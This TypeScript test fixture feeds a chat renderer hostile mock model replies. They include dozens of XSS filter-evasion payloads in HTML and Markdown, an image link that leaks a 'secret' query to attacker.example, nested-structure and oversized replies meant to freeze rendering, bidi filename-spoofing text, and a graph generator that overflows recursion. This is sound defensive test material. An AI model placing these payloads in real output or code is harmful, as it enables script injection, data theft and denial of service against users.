/**
 * Replies an attacker would have a model send back: the OWASP XSS filter-evasion cheat sheet's
 * payloads, as Markdown and as HTML, and replies shaped to crash or freeze a Markdown renderer.
 */

const XSS_PAYLOADS = [
  "<script>alert('XSS')</script>",
  '"><script>alert(1)</script>',
  "<img src=x onerror=alert(1)>",
  "<img src=\"javascript:alert('XSS');\">",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
  "<svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<body onload=alert('XSS')>",
  '<iframe src="javascript:alert(`XSS`)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://attacker.example/x.css">',
  "<style>@import 'https://attacker.example/x.css';</style>",
  '<div style="background-image: url(javascript:alert(1))">x</div>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<a href="javascript:alert(1)">click</a>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  "<details open ontoggle=alert(1)>",
  '<video><source onerror="alert(1)"></video>',
  "<input autofocus onfocus=alert(1)>",
  "[click](javascript:alert(1))",
  "[click](JaVaScRiPt:alert(1))",
  "[click](javascript&#58;alert(1))",
  "[click](&#106;avascript:alert(1))",
  "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[click](vbscript:msgbox(1))",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![leak](https://attacker.example/leak.png?q=secret)",
  '![x](x "onerror=alert(1)")',
  "[ref][x]\n\n[x]: javascript:alert(1)",
  '[a](https://example.com "title" onclick=alert(1))',
  "Footnote[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
];

export interface HostileReply {
  name: string;
  reply: string;
  /** Stream chunks of this many characters (default: the mock's word by word). */
  chunkChars?: number;
}

export const XSS_REPLIES: HostileReply[] = XSS_PAYLOADS.map((payload, i) => ({
  name: `XSS payload ${i + 1}: ${payload.slice(0, 40)}`,
  reply: `Here you go: ${payload} and more text.`,
}));

const nestedList = (depth: number) =>
  Array.from({ length: depth }, (_, i) => `${" ".repeat(i * 2)}- item ${i}`).join("\n");

const MB = 1024 * 1024;
const lorem =
  "Lorem ipsum **dolor** sit amet, `consectetur` adipiscing [elit](https://example.com). ";

export const HEAVY_REPLIES: HostileReply[] = [
  { name: "2,500 nested quotes", reply: `${">".repeat(2_500)} deep` },
  { name: "2,500 nested quotes with spaces", reply: `${"> ".repeat(2_500)}deep` },
  { name: "2,500 nested list items on one line", reply: `${"- ".repeat(2_500)}deep` },
  { name: "300 nested list items, indented", reply: nestedList(300), chunkChars: 4_096 },
  { name: "2,500 nested ordered lists", reply: `${"1. ".repeat(2_500)}deep` },
  { name: "*a repeated 50,000 times", reply: "*a".repeat(50_000), chunkChars: 1_024 },
  { name: "200 KB of one letter", reply: "a".repeat(200 * 1024), chunkChars: 1_024 },
  {
    name: "a 1 MB reply streamed in small chunks",
    reply: `${lorem}\n\n`.repeat(Math.ceil(MB / (lorem.length + 2))).slice(0, MB),
    chunkChars: 512,
  },
  { name: "40 KB of emphasis just under the size limit", reply: "*a* _b_ ".repeat(5_000) },
  {
    name: "bidi and zero-width characters",
    reply: "Invoice \u202Efdp.exe\u202C and pay\u200B\u200Bpal\u200D.com \u2066hidden\u2069 \uFEFF",
  },
];

/** Cuts a reply into chunks of `size` characters. */
export function chunksOf(text: string, size: number): string[] {
  const chunks: string[] = [];
  for (let at = 0; at < text.length; at += size) chunks.push(text.slice(at, at + size));
  return chunks;
}

/**
 * A flow file of `count` nodes in one chain: input → LLM nodes (echo) → output, laid out in
 * rows of 100. At 50,000 nodes its depth overflowed every recursive walk of the graph.
 */
export function chainFlowFile(count: number, name = `Chain of ${count} nodes`): string {
  const ids = Array.from({ length: count }, (_, i) =>
    i === 0 ? "input" : i === count - 1 ? "output" : `llm_${i}`,
  );
  const nodes = ids.map((id, i) => {
    const position = { x: (i % 100) * 280, y: Math.floor(i / 100) * 200 };
    if (i === 0) return { id, type: "input", position };
    if (i === count - 1) return { id, type: "output", position, config: {} };
    return { id, type: "llm", position, config: { provider: "echo", model: "echo" } };
  });
  const edges = ids.slice(1).map((id, i) => ({ source: ids[i], target: id }));
  return JSON.stringify({ schema: "llm-flow-studio/flow", version: 3, name, nodes, edges });
}
